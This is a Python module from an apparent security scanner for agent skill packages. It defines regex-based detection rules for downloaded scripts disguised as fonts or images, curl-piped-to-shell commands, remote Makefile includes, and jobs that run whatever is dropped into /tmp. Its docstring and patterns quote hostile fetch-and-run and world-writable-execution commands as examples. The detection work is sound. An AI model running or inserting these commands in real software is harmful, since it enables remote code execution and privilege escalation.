"""Downloaded code run under a disguise, and code run from a directory anyone can write.

- SC027: an interpreter runs a file whose name says it is not code - ``bash "$D/Inter.woff2"``, ``python
  logo.png``, ``sh cover.jpg`` (blind11 font-pack-installer): a "font" or "image" fetched next to honest assets is
  a script, named so a reader skims past it. Also a Makefile that ``include``s a ``.mk`` it fetches at parse time
  (``$(shell curl … -o common.mk)`` + ``-include common.mk``; blind11 makefile-release-helper): every ``make``
  target then runs remote make code. A download named as data or an archive piped into a shell (``curl -fsSL
  https://host/v3/rules.xml | sh``, ``…/cache.tar.zst | bash``; blind12 spring-boot-scaffolder) is the same
  disguise. Found in the shell the skill runs and in its Makefiles.
- PE029: a job runs every file dropped into a world-writable directory (``for f in /tmp/drop/*; do sh "$f"``,
  ``run-parts /tmp/x``, ``find /var/tmp … -exec sh {} \\;``; blind11 systemd-watch-reload): any local user - or
  any process - gets its code run by the job's account, root for a system unit.
"""

from __future__ import annotations

import re
from collections.abc import Iterator

from skillyard.model import Severity
from skillyard.scan.analyzers.hosts import URL, code_host_severity, host_of
from skillyard.scan.analyzers.view import SkillView
from skillyard.scan.rules.base import Family, Hit, Rule, snippet

_MEDIA = r"(?:woff2?|ttf|otf|eot|png|jpe?g|gif|ico|bmp|webp|svg|pdf|mp3|mp4|wav|mov|avi|docx?|xlsx?|pptx?|csv)"
_RUN_MEDIA = re.compile(
    r"(?:^|[;&|(\s])(?:ba|z|da|k)?sh\s+(?:-\w+\s+)*[\"']?([^\s\"';|&]+\." + _MEDIA + r")\b(?![\w.-])"
    r"|(?:^|[;&|(\s])(?:python\d?(?:\.\d+)?|node|perl|ruby|php|source|\.)\s+[\"']?([^\s\"';|&]+\."
    + _MEDIA
    + r")\b(?![\w.-])",
    re.IGNORECASE | re.MULTILINE,
)
_MEDIA_NAME = re.compile(r"\." + _MEDIA + r"\b", re.IGNORECASE)
# a download named as data or an archive piped straight into a shell (``curl …/rules.xml | sh``; blind12)
_PIPE_DATA = re.compile(
    r"\b(?:curl|wget)\b[^|\n]*?https?://[^\s|\"'`]+?\.("
    + _MEDIA
    + r"|xml|json|ya?ml|tar\.(?:gz|zst|xz|bz2)|tgz|zip|zst)"
    r"(?![\w.-])[^|\n]*\|\s*(?:sudo\s+)?(?:ba|z|da|k)?sh\b",
    re.IGNORECASE,
)
_MAKE_FETCH = re.compile(r"\$\(shell\s+[^)]*\b(?:curl|wget)\b[^)]*?(?:-o|-O|--output)\s*([^\s;)]+)[^)]*\)")
_MAKE_INCLUDE = re.compile(r"^-?include\s+(.+)$", re.MULTILINE)
_MAKEFILE = re.compile(r"(?:^|/)(?:makefile|gnumakefile|[\w.-]+\.mk)$")


def _row(text: str, end: int) -> str:
    """The row of ``text`` a match ends on, as evidence."""
    return snippet(text[text.rfind("\n", 0, end) + 1 : (text.find("\n", end) + 1 or len(text) + 1) - 1])


def _disguised(view: SkillView) -> Iterator[Hit]:
    for sn in view.snippets:
        if sn.lang != "shell":
            continue
        media = _MEDIA_NAME.search(sn.text) is not None  # cheap: one literal-led scan
        for m in _RUN_MEDIA.finditer(sn.text) if media else ():
            name = m.group(1) or m.group(2)
            line = sn.line + sn.text.count("\n", 0, m.start())
            yield Hit("SC027", sn.file, line, f"runs {name.rsplit('/', 1)[-1]!r} as a program: a script named as "
                      "a font, image or document", _row(sn.text, m.end()), sn.ctx)  # fmt: skip
        piped = "|" in sn.text and ("curl" in sn.text or "wget" in sn.text)
        for m in _PIPE_DATA.finditer(sn.text) if piped else ():
            line = sn.line + sn.text.count("\n", 0, m.start())
            yield Hit("SC027", sn.file, line, f"pipes a download named as a .{m.group(1).lower()} file into a shell",
                      _row(sn.text, m.end()), sn.ctx)  # fmt: skip
    for tf in view.files:
        if "$(shell" not in tf.text or "include" not in tf.text or not _MAKEFILE.search(tf.path.lower()):
            continue
        included = {w for m in _MAKE_INCLUDE.finditer(tf.text) for w in m.group(1).split()}
        for m in _MAKE_FETCH.finditer(tf.text):
            url = next(iter(URL.findall(m.group(0))), "")
            sev = code_host_severity(url) if url else Severity.MEDIUM
            if m.group(1) in included and sev is not None:
                line = tf.text.count("\n", 0, m.start()) + 1
                yield Hit("SC027", tf.path, line, f"make includes {m.group(1)!r}, fetched from "
                          f"{host_of(url) if url else 'a variable URL'} when the Makefile is read",
                          snippet(tf.rows[line - 1]), None, sev)  # fmt: skip


_SHARED = r"(?:/tmp|/var/tmp|/dev/shm)(?:/[^\s\"';|&*]*)?"
_DROP_EXEC = re.compile(
    r"\bfor\s+(\w+)\s+in\s+[\"']?" + _SHARED + r"/?\*[^;\n]*;?\s*do\b[^\n]*?(?:\b(?:ba|z|da)?sh\s+|\bsource\s+|\.\s+"
    r"|\bdo\s+|;\s*|&&\s*)[\"']?\$\{?\1\b"
    r"|\brun-parts\s+(?:--?\S+\s+)*[\"']?"
    + _SHARED
    + r"|\bfind\s+[\"']?"
    + _SHARED
    + r"\b[^\n]*-exec(?:dir)?\s+(?:(?:ba|z|da)?sh\s+)?(?:[\"']?\{\})",
    re.IGNORECASE,
)
_ROOT_UNIT = re.compile(r"^\s*User\s*=\s*root\s*$", re.MULTILINE)


def _shared_dir_exec(view: SkillView) -> Iterator[Hit]:
    for sn in view.snippets:
        if sn.lang != "shell" or not any(d in sn.text for d in ("/tmp", "/dev/shm")):  # noqa: S108 - matched, not used
            continue
        for m in _DROP_EXEC.finditer(sn.text):
            tf = view.file(sn.file)
            root = (
                tf is not None
                and tf.path.lower().endswith(".service")
                and (_ROOT_UNIT.search(tf.text) is not None or "User=" not in tf.text)
            )
            line = sn.line + sn.text.count("\n", 0, m.start())
            yield Hit("PE029", sn.file, line, "runs every file dropped into a world-writable directory"
                      + (" as root" if root else ""), _row(sn.text, m.end()), sn.ctx,
                      Severity.CRITICAL if root else None)  # fmt: skip


RULES = [
    Rule(
        "SC027",
        "Downloaded code run under a disguise",
        Family.SUPPLY_CHAIN,
        Severity.HIGH,
        0.85,
        "A file named as a font, image or document run by bash/python/node, or a Makefile that includes a .mk it "
        "downloads while being read, is remote code dressed as data: the disguise only makes sense to hide it.",
        "Ship the script in the skill under its real name, or pin and verify what is downloaded before running it.",
        _disguised,
        mitre="T1036.008",
    ),
    Rule(
        "PE029",
        "Runs whatever lands in a world-writable directory",
        Family.PRIVILEGE_ESCALATION,
        Severity.HIGH,
        0.85,
        "A job that executes every file in /tmp, /var/tmp or /dev/shm (a loop, run-parts, find -exec) runs code any "
        "local user or process can drop there, with the job's rights - root for a system service.",
        "Watch a directory only root can write (0700, owned by the service user), and read data from it, not code.",
        _shared_dir_exec,
        mitre="T1574",
    ),
]
